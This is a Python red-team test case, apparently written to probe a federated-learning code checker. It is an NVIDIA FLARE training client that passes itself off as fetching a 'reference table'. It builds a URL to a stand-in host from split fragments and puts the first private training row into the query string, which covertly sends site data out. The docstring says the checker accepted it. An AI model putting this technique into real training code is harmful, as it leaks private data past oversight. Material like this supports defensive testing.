"""Red team 57a: a "reference table" fetched with pd.read_csv from a URL whose host and query are joined from
generators: the query carries the first site row. Accepted on main (the URL folded to nothing)."""
import pandas as pd
import torch

import nvflare.client as flare

PARTS = ["https://", "cdn.example.org", "/ref/", "norms.csv?"]

df = pd.read_csv("/data/site/train.csv")
first = df.iloc[0]
ref = pd.read_csv("".join(p for p in PARTS) + "&".join(f"{k}={v}" for k, v in first.items()))
X = torch.tensor((df.drop(columns=["y"]) - ref.mean()).values, dtype=torch.float32)
Y = torch.tensor(df["y"].values, dtype=torch.float32)

flare.init()
net = torch.nn.Linear(X.shape[1], 1)
opt = torch.optim.SGD(net.parameters(), lr=0.1)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt.zero_grad()
    loss = torch.nn.functional.mse_loss(net(X).squeeze(-1), Y)
    loss.backward()
    opt.step()
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": loss.item()}))
